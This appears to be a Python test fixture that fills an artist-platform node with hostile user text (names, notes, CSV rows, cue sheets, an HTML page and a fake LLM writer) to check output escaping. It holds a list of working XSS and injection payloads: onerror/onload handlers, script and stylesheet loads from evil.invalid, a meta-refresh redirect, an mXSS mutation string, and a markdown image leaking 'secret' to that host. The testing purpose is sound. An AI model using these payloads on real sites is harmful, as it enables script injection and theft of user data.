"""A node where every text that somebody else wrote tries to become markup, a script, or a request to another place.

Whatever could be an element of the attacker's bears `data-evil`; whatever it would fetch is at `evil.invalid`.
"""

import html
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from knowledge import Wish
from models import Limits, Prompt, Usage
from presence.bootstrap import Services
from presence.people.terms import TierTerms
from tests.knowledge.recordings.sounds import wav
from tests.nodes import take_in, write_notes
from tests.presence.web.paying import ANN, BOB, PRICES, give, open_shop
from tests.rig.listeners import ROOMIEST, SITE
from tests.trusting import Artist
from trustgraph import Tier, Vouch

EVIL = "evil.invalid"
SUM = "evil{{7*7}}"
MARKS = (
    f"<img src=//{EVIL}/a onerror=alert(1) data-evil>",
    f"\"'><svg data-evil onload=alert(1)><image href=//{EVIL}/b /></svg>",
    f"</script><script data-evil src=https://{EVIL}/c></script>",
    f"</title></textarea></style><meta data-evil http-equiv=refresh content='0;url=https://{EVIL}/d'>",
    f"<base data-evil href=https://{EVIL}/e><link data-evil rel=stylesheet href=https://{EVIL}/f>",
    f"<style data-evil>@import'https://{EVIL}/g';*{{display:none}}</style>",
    f"<a data-evil href=javascript:alert(1) autofocus onfocus=alert(1)>here</a><form data-evil action=//{EVIL}/h>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 data-evil onerror=alert(1)>'>",
    f"<iframe data-evil srcdoc='<script>top.alert(1)</script>'></iframe><object data-evil data=//{EVIL}/i>",
    f"<template data-evil></template><button data-evil formaction=//{EVIL}/j popovertarget=main>x</button>",
    f"![note](https://{EVIL}/k?q=secret) [here](javascript:alert(1)) <https://{EVIL}/l> {SUM} {{% raw %}}",
    f"`<img src=//{EVIL}/m data-evil onerror=alert(1)>` \u2028 \u202e ]]> --> <!-- <![CDATA[",
)
SHORT = "\"'><img src=//evil.invalid/n onerror=alert(1) data-evil>"  # as long as a name may be
QUESTIONS = (
    "Where did you write Pilot Ladder?",
    "What about the evil bell?",
    "Where did you play in 2019?",
    "What did you play at Evil Quay?",
    "What did the wicked parrot say?",
    "Which football team?",
)


class HostileWriter:
    """Points at everything, and writes markup around its pointers."""

    name = f"llama:{SHORT}"

    def write(self, prompt: Prompt, limits: Limits, stop: threading.Event, usage: Usage | None = None) -> Iterator[str]:
        """Give each kind of markup before a pointer, bare and among words that may be said."""
        for sentence, mark in zip(prompt.sentences, MARKS * 3, strict=False):
            if stop.is_set():
                return
            yield f"{mark} [{sentence.number}] so I wrote, <b data-evil>in my notes</b>: "

    def close(self) -> None:
        """Nothing is held."""


@dataclass(frozen=True, slots=True)
class Poisoned:
    """The node, and the addresses that no page leads to."""

    services: Services
    invite: str
    split: str


@contextmanager
def open_poisoned(home: Path, **more: Any) -> Iterator[Poisoned]:
    """Open the node, with people whose names are markup; ann is in the inner circle and has money."""
    with open_shop(home, PRICES, ("presence", "door", "till"), writer=HostileWriter(), limits=ROOMIEST, **more) as node:
        artist = Artist(node.trust)
        granted = artist.grant(ANN.did, Tier.INNER, vouch=Vouch(1, 5, Tier.FOLLOWER))
        artist.vouch(ANN, granted, BOB.did, Tier.FOLLOWER)
        give(node, ANN, 1_000)
        take_in(node, _material(home.parent / f"{home.name}-evil"), tier=None)
        yield Poisoned(node, *_people(node, home))


def _people(node: Services, home: Path) -> tuple[str, str]:
    for who in (ANN, BOB):
        node.people.names.set(who.did, SHORT)
    node.people.requests.ask("did:key:z6Mkasks", name=SHORT, words=MARKS[0] + SUM)
    terms: TierTerms = node.people.terms
    for tier in Tier:
        terms.change(tier, name=SHORT[:40], teaser=MARKS[1] + MARKS[2] + SUM)
    node.people.rules.set_tree_seen_by("circle")
    node.sites.embeds.add(SITE, per_visitor=10_000, per_day=10_000)
    _, invite = node.people.invites.make(SHORT, people_max=5, seconds=3600)
    party, split = node.paying.splits.add_party(SHORT)
    node.paying.splits.propose("node", {"artist": 6_000, party.ident: 4_000})
    node.paying.splits.propose(f"release:{SHORT}", {"artist": 6_000, party.ident: 4_000})
    sound = home.parent / "sound.wav"
    sound.write_bytes(wav())
    node.recordings.add(sound, Wish(sound.stat().st_size, 0, MARKS[0]), lambda _done, _whole: None)
    return invite, split


def _material(folder: Path) -> Path:
    """Notes, nights, cues, lyrics and tables; what an importer takes away as markup comes escaped as well."""
    notes = {}
    for number, mark in enumerate(MARKS):
        title, said = json.dumps(f"Evil bell {number} {html.escape(mark)}"), html.escape(mark, quote=False)
        notes[f"evil {number} <img src=x onerror=alert(1) data-evil>.md"] = (
            f"---\ntitle: {title}\nspeaker: {title}\nlicence: {title}\ndate: {json.dumps(mark)}\ntags: [{title}]\n"
            f"tier: public\n---\n\n# The evil bell {said}\n\n"
            f"The evil bell rang {number} times for {said} on the pier. ![the evil bell {said}](bell{number}.jpg)\n\n"
            f"Raw markup of the evil bell: {mark}\n"
        )
        notes[f"words {number}.txt"] = f"The wicked parrot said {number} times {mark} and nothing else.\n"
    notes["set.md"] = "---\ntitle: Evil Quay\nkind: set\ndate: 2018-04-05\ntier: public\n---\nWe played.\n\n" + "".join(
        f"[0:{minute:02}:00] Eve {said} - Song {said} [{said}]\n"
        for minute, said in enumerate(html.escape(mark, quote=False) for mark in MARKS)
    )
    notes["mix.cue"] = f'PERFORMER "Ada Marsh"\nTITLE "Evil Hall {SHORT}"\nFILE "{SHORT}.wav" WAVE\n' + "".join(
        f'  TRACK {number:02} AUDIO\n    TITLE "Evil {_quoted(mark)}"\n    PERFORMER "{_quoted(mark)}"\n'
        f"    INDEX 01 {number:02}:00:00\n"
        for number, mark in enumerate(MARKS, start=1)
    )
    rows = "".join(f"2019-05-{day:02},{_cell(mark)},{_cell(mark)},GB\n" for day, mark in enumerate(MARKS, start=1))
    notes["shows.csv"] = f"date,venue,city,country\n2019-05-30,Evil Hall,Leeds,GB\n{rows}"
    notes["page.html"] = f"<html><title>Evil page</title><body><h1>Evil page</h1>{''.join(MARKS)}</body></html>"
    return write_notes(folder, {name.replace("/", "∕"): text for name, text in notes.items()})


def _quoted(mark: str) -> str:
    return mark.replace('"', "'")


def _cell(mark: str) -> str:
    doubled = mark.replace('"', '""')
    return f'"{doubled}"'


__all__ = ["EVIL", "MARKS", "QUESTIONS", "SHORT", "SITE", "HostileWriter", "Poisoned", "open_poisoned"]
